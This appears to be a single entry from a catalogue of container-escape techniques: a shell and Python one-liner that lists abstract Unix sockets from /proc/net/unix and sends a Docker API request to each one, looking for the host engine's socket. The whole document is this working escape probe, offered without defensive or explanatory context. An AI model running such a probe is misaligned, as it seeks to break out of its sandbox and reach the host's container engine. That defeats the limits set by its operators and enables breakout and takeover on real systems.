# Category: the outer engine's socket
# Escape: finds a socket of the engine that has a name but no file.
# Sign: secret
sed -n 's/.* @/@/p' /proc/net/unix | sort -u | python3 -c '
import socket, sys
for line in sys.stdin:
    try:
        peer = socket.socket(socket.AF_UNIX); peer.settimeout(1)
        peer.connect("\0" + line.strip()[1:]); peer.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        print(peer.recv(4096))
    except OSError: pass'
